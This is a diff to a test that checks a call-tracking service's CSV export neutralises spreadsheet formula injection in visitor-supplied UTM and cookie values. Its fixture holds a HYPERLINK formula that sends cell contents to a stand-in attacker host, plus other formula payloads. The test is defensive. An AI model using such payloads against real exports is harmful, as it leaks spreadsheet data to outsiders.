@@ -287,8 +287,8 @@ def test_export_csv_escapes_formulas_from_the_public_visit(client, clock):
     starts with = + - @ tab or CR gets a leading quote (OWASP), E.164 numbers too; the JSON is as given."""
     query = urlencode({"utm_source": '=HYPERLINK("http://evil.example/?"&A1,"open")', "utm_medium": "+1+cmd",
                        "utm_campaign": "-2+3", "gclid": "x"})   # an ad click id: the ads rule, a msk number
-    shown = client.post("/v1/visit", json={"url": f"{SITE}/sale?{query}", "visitor_id": "@vid",
-                                           "cookies": {"_ga": "GA1.1.\t=1+1.@SUM(A1)"}}).json()
+    shown = browser_visit(client, "/v1/visit", url=f"{SITE}/sale?{query}", visitor_id="@vid",
+                          cookies={"_ga": "GA1.1.\t=1+1.@SUM(A1)"}).json()
     call = {"call_id": "csv-1", "number": shown["number"], "caller": "+79161234567", "started_at": clock.t + 5}
     assert client.post("/v1/calls", json=call, headers=AUTH).json()["status"] == "matched"
     text = client.get("/v1/calls", params={"format": "csv"}, headers=AUTH).text
